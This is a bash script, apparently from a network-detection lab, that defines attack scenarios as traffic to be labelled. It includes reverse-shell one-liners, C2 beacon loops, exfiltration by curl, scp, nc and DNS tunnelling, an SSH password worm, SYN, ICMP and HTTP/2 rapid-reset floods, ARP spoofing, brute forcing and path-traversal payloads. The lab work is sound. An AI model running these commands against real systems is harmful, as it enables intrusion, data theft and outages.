# Tools of Debian at their defaults and programs of twenty lines, between private addresses only. Sourced by ../harbour.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=172.31.7.77 [bad2]=172.31.7.78 [desk]=192.168.40.31 [desk2]=192.168.40.32 [rogue]=192.168.40.66)
WWW=10.88.4.10 BASTION=10.88.4.12 NAMES=10.88.4.13 STORE=10.88.4.14 BOSS=172.31.7.200 SITE=172.31.7.5 ROGUE_MAC=02:00:5e:00:4e:4d
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
lan() { tool "$1" "$2" "$3" "$4" "${5:-}" br-off "${6:-0}"; }
own() { on "$1" /usr/bin/python3 "$LAB_HOME/harbour/attacks.py" "${@:2}"; }
secret() { local f=$LAB_DIR/secret-$1; [ -f "$f" ] || head -c "$1" /dev/urandom >"$f"; echo "$f"; }
commands() { sleep 3; for c in id 'uname -a' 'ls -la /etc | head -30' 'ps aux | head -20' 'cat /etc/passwd' 'ip address' 'df -h' 'ls /usr/bin | head -40'; do echo "$c"; sleep "${1:-3}"; done; }
# typed PORT PAUSE COMMAND...: orders typed at the boss's listener; then the desk's end.
typed() { commands "$2" | timeout 55 ip netns exec "$LAB_NS-boss" nc.openbsd -n -l -p "$1" >/dev/null 2>&1 & sleep 1; shift 2; on 50 "$@"; wait_for_jobs; }

# --- masters
out curl_jitter c2-beacon desk $BOSS; curl_jitter() { on 100 bash -c 'while :; do curl -s "http://172.31.7.200/beacon?id=$(hostname)"; sleep $((3 + RANDOM % 6)); done'; }
out post_tasks c2-beacon desk2 $BOSS; post_tasks() { own 100 post_tasks $BOSS 5 20; }
out https_poll c2-beacon desk $BOSS; https_poll() { on 90 bash -c 'while :; do curl -sk -o /dev/null https://172.31.7.200/; sleep 5; done'; }
out https_jitter c2-beacon desk2 $BOSS; https_jitter() { on 150 bash -c 'while :; do curl -sk -o /dev/null -d id=7 https://172.31.7.200/api; sleep $((3 + RANDOM % 6)); done'; }
out tcp_again c2-beacon desk $BOSS; tcp_again() { own 90 tcp_again $BOSS 7000 5 30; }
out tcp_kept c2-beacon desk2 $BOSS; tcp_kept() { own 110 tcp_kept $BOSS 7000 5 20; }
out udp_kept c2-beacon desk $BOSS; udp_kept() { own 100 udp_kept $BOSS 7001 5 20; }
out posh c2-beacon desk2 $BOSS; posh() { own 100 posh $BOSS 5 20; }
out bash_shell c2-beacon desk $BOSS; bash_shell() { typed 4445 3 bash -c 'bash -i >& /dev/tcp/172.31.7.200/4445 0>&1'; }
out fifo_443 c2-beacon desk2 $BOSS; fifo_443() { typed 8444 4 bash -c 'f=$(mktemp -u); mkfifo $f; cat $f | sh -i 2>&1 | nc.openbsd 172.31.7.200 8444 >$f; rm $f'; }
out ruby_shell c2-beacon desk $BOSS; ruby_shell() { typed 4446 2 ruby -rsocket -e 'c=TCPSocket.new("172.31.7.200",4446);while(d=c.gets);IO.popen(d,"r"){|io|c.print io.read}end'; }
out icmp_tasks c2-beacon desk2 $BOSS; icmp_tasks() { own 80 icmp_tasks $BOSS 5; }

# --- uploads
out curl_put exfiltration desk $BOSS '' 400; curl_put() { on 40 curl -s -T "$(secret 20000000)" http://$BOSS/upload; }
out curl_form exfiltration desk2 $BOSS '' 400; curl_form() { on 40 curl -sk -F "file=@$(secret 20000000)" https://$BOSS/upload; }
out scp_out exfiltration desk $BOSS '' 400; scp_out() { on 60 scp -q "${SSH_OPTIONS[@]}" -i "$LAB_DIR/user" "$(secret 30000000)" root@$BOSS:/dev/null; }
out nc_443 exfiltration desk2 $BOSS '' 400; nc_443() { on 40 bash -c 'nc.openbsd -N 172.31.7.200 9443 <"$0"' "$(secret 10000000)"; }
out ftp_put exfiltration desk $BOSS '' 400; ftp_put() { on 40 curl -s -T "$(secret 15000000)" ftp://$BOSS/up/a$RANDOM.bin; }
out split_posts exfiltration desk2 $BOSS '' 400; split_posts() { rm -f "$LAB_DIR"/part-*; split -b 500000 "$(secret 15000000)" "$LAB_DIR/part-"; on 60 bash -c 'for f in "$0"/part-*; do curl -s --data-binary "@$f" -o /dev/null http://172.31.7.200/u; sleep 1; done' "$LAB_DIR"; }
out trickle exfiltration desk $BOSS '' 400; trickle() { on 110 curl -sk --limit-rate 100k -T "$(secret 9000000)" -o /dev/null https://$BOSS/u; }

# --- malware
out drop_run malware desk $BOSS; drop_run() { on 20 bash -c 'curl -s http://172.31.7.200:8000/x.sh -o /dev/null; sleep 1; wget -q -O /dev/null http://172.31.7.200:8000/x86'; }
out python_stage malware desk2 $BOSS; python_stage() { on 20 curl -s -o /dev/null http://$BOSS:8000/a.py; }
out ssh_worm malware desk 172.31.7.0/24; ssh_worm() { on 60 bash -c 'for i in 5 141 142 143 77 78 200 201 203 $(seq 20 40); do for p in root admin 123456; do timeout 4 sshpass -p $p ssh "${@}" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=1 root@172.31.7.$i true || [ $? = 5 ] || break; done; done' x "${SSH_OPTIONS[@]}"; }
out stratum malware desk2 $BOSS; stratum() { ns_start boss python3 "$LAB_HOME/harbour/attacks.py" pool 3333; sleep 1; own 60 stratum $BOSS 3333; }
out echo_loader malware bad $STORE; echo_loader() { own 40 echo_loader $STORE; }

# --- floods
out mz_random dos-flood bad $WWW -; mz_random() { on 15 mausezahn eth0 -q -a 02:00:5e:00:4c:2d -b 02:00:5e:00:4c:01 -A rand -B $WWW -c 6000 -d 800u -t tcp 'flags=syn,dp=80'; }
out nping_dns dos-flood bad2 $NAMES; nping_dns() { on 15 nping -q --udp -p 53 --data-length 300 --rate 1000 -c 8000 -N $NAMES; }
out hping_large dos-flood bad $WWW; hping_large() { on 15 hping3 -q --icmp -d 5000 -c 2000 -i u3000 $WWW; }
out raw_syn dos-flood bad2 $WWW -; raw_syn() { own 15 raw_syn $WWW 80 6000; }
out requests_threads dos-flood bad $WWW; requests_threads() { own 20 requests_threads $WWW 40 10; }
out used_as_reflector dos-flood bad2 $NAMES 172.31.7.141; used_as_reflector() { own 15 used $NAMES 172.31.7.141 4000; }
out rapid_reset dos-flood bad $WWW; rapid_reset() { NODE_TLS_REJECT_UNAUTHORIZED=0 on 14 node -e 'const h=require("http2");let c;const again=()=>{c=h.connect("https://10.88.4.10:8443");c.on("error",()=>{})};again();setInterval(()=>{try{if(c.closed||c.destroyed)again();for(let i=0;i<60;i++){const r=c.request({":path":"/"});r.on("error",()=>{});r.end();r.close(8)}}catch(e){again()}},20);setTimeout(()=>process.exit(),9000)'; }
out udp_large dos-flood bad2 $STORE; udp_large() { own 15 udp_large $STORE 8; }

# --- slow attacks
out rudy slow-dos bad $WWW; rudy() { own 60 rudy $WWW 60 50; }
out read_small slow-dos bad2 $WWW; read_small() { own 60 read_small $WWW 80 50; }
out tls_heads slow-dos bad $WWW; tls_heads() { own 60 tls_heads $WWW 60 50; }
out loris_defaults slow-dos bad2 $WWW; loris_defaults() { (cd "$LAB_DIR" && on 60 slowhttptest -u http://$WWW/ -l 50); }

# --- tunnels
out odd_types dns-tunnel desk 172.31.7.203; odd_types() { own 50 names 172.31.7.203 100 0.3 40 35,257,64,65,37; }
out short_hex dns-tunnel desk2 172.31.7.203; short_hex() { own 60 names 172.31.7.203 120 0.3 12 1; }
out slow_txt dns-tunnel desk 172.31.7.203; slow_txt() { own 100 names 172.31.7.203 45 2 40 16; }
out by_tcp dns-tunnel desk2 172.31.7.203; by_tcp() { on 60 bash -c 'xxd -p -c 24 "$0" | head -120 | while read -r h; do dig +tcp +tries=1 +time=2 @172.31.7.203 "$h.x.leak.example" >/dev/null; sleep 0.2; done' "$(secret 30000)"; }

# --- the link
lan ettercap_oneway arp-spoof rogue 192.168.40.31 $ROGUE_MAC; ettercap_oneway() { on 25 ettercap -T -q -o -i eth0 -M arp:oneway /192.168.40.31// /192.168.40.1//; }
lan scapy_garp arp-spoof rogue 192.168.40.1 $ROGUE_MAC; scapy_garp() { on 30 /usr/bin/python3 -c "from scapy.all import *; sendp(Ether(dst='ff:ff:ff:ff:ff:ff')/ARP(op=1,hwsrc='$ROGUE_MAC',psrc='192.168.40.1',pdst='192.168.40.1'),iface='eth0',inter=2,count=8,verbose=0)"; }

# --- passwords and the web
out ncrack_ftp brute-force bad $STORE; ncrack_ftp() { on 50 ncrack --user admin -P "$(words 60)" ftp://$STORE; }
out basic_slow brute-force bad2 $WWW; basic_slow() { own 75 basic_slow $WWW 24 2.5; }
out telnet_try brute-force bad $STORE; telnet_try() { own 70 telnet_try $STORE 20; }
out nse_mysql brute-force bad2 $STORE; nse_mysql() { echo admin >"$LAB_DIR/users"; on 45 nmap -n -Pn -p 3306 --script mysql-brute --script-args "userdb=$LAB_DIR/users,passdb=$(words 60)" $STORE; }
out paths_paced web-attack bad $WWW; paths_paced() { own 70 paths_paced $WWW 2; }
out payloads_posted web-attack bad2 $WWW; payloads_posted() { own 50 payloads_posted $WWW 1.5; }
out files_asked web-attack bad $WWW; files_asked() { on 50 bash -c 'for p in ../../../../etc/passwd ....//....//etc/passwd %2e%2e%2f%2e%2e%2fetc/passwd /etc/shadow php://filter/resource=index file:///etc/hosts /proc/self/environ ../../../var/log/nginx/access.log; do curl -s --path-as-is -o /dev/null "http://10.88.4.10/item?file=$p"; sleep 3; done'; }
